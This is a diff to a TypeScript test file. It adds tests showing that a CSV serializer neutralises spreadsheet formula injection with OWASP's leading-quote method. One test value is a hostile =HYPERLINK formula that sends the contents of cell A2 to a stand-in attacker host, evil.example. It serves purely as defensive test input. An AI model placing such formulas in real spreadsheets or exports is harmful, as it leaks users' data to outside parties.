@@ -596,6 +596,23 @@ describe('Jekyll and Liquid conventions', () => {
     expect(at('---\na: 1\n---\r\n\r\nx')).toBe('x')
   })
 
+  it.each([
+    ['a title with a live formula', 1, '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")', `"'=HYPERLINK(""https://evil.example/?""&A2,""Cliquez"")"`],
+    ['a value of an unquoted column', 5, '=1+1', `"'=1+1"`],
+    ['a plus', 5, '+33 1 23', `"'+33 1 23"`],
+    ['a minus', 5, '-2+3', `"'-2+3"`],
+    ['an at sign', 5, '@SUM(A1)', `"'@SUM(A1)"`],
+    ['a tab', 5, '\t=1', `"'\t=1"`],
+    ['a carriage return', 5, '\r=1', `"'\r=1"`],
+    ['a formula sign later in the value', 5, 'a=1', 'a=1'],
+  ])('serializeCsv neutralises %s as OWASP recommends (quote in front, quoted)', (_name, column, value, cell) => {
+    const row = CSV_HEADER.map((_, i) => (i === column ? value : 'x'))
+    const line = serializeCsv([[...CSV_HEADER], row]).split('\n')[1]!
+    expect(line.split(';')[column]).toBe(cell)
+    const [, parsed] = parse(serializeCsv([[...CSV_HEADER], row]), { delimiter: ';' }) as string[][]
+    expect(parsed![column]).toBe(cell.startsWith('"') ? `'${value}` : value)
+  })
+
   it('compareBytes is the UTF-8 byte order', () => {
     const words = ['é', 'a', 'Z', '🚀', '\uffff', 'a-b', 'a.md']
     const bytes = [...words].sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b)))
@@ -603,28 +620,30 @@ describe('Jekyll and Liquid conventions', () => {
   })
 
   it('serializeCsv gives the bytes csv-stringify gives, and csv-parse reads the rows back', () => {
-    // The serialisation the registry used before (csv-stringify, always-quoted columns by cast).
+    // The serialisation the registry used before (csv-stringify, always-quoted columns by cast), and
+    // OWASP's neutralisation of formulas: a single quote in front, and quotes around.
+    const neutral = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value)
     const reference = (rows: string[][]) => {
       const [header, ...body] = rows
-      const head = header ? stringify([header], { delimiter: ';', record_delimiter: '\n', quoted_match: /\r/ }) : ''
+      const head = header ? stringify([header.map(neutral)], { delimiter: ';', record_delimiter: '\n', quoted_match: [/\r/, /^'[=+\-@\t\r]/] }) : ''
       return (
         head +
         stringify(body, {
           delimiter: ';',
           record_delimiter: '\n',
           quoted_match: /\r/,
-          cast: { string: (value, context) => (CSV_ALWAYS_QUOTED.has(context.index) ? { value, quoted: true, quoted_empty: true } : value) },
+          cast: { string: (value, context) => (CSV_ALWAYS_QUOTED.has(context.index) || neutral(value) !== value ? { value: neutral(value), quoted: true, quoted_empty: true } : value) },
         })
       )
     }
-    const field = fc.string({ unit: fc.constantFrom('a', 'é', ';', '"', '\n', '\r', ' ', ',', '\t', '🚀', "'", '=') })
+    const field = fc.string({ unit: fc.constantFrom('a', 'é', ';', '"', '\n', '\r', ' ', ',', '\t', '🚀', "'", '=', '+', '-', '@') })
     const row = fc.array(field, { minLength: CSV_HEADER.length, maxLength: CSV_HEADER.length })
     fc.assert(
       fc.property(fc.array(row, { maxLength: 5 }), (body) => {
         const rows = [[...CSV_HEADER], ...body]
         const text = serializeCsv(rows)
         expect(text).toBe(reference(rows))
-        expect(parse(text, { delimiter: ';' })).toEqual(rows)
+        expect(parse(text, { delimiter: ';' })).toEqual(rows.map((r) => r.map(neutral)))
       }),
       { numRuns: 1000, seed: 23 },
     )
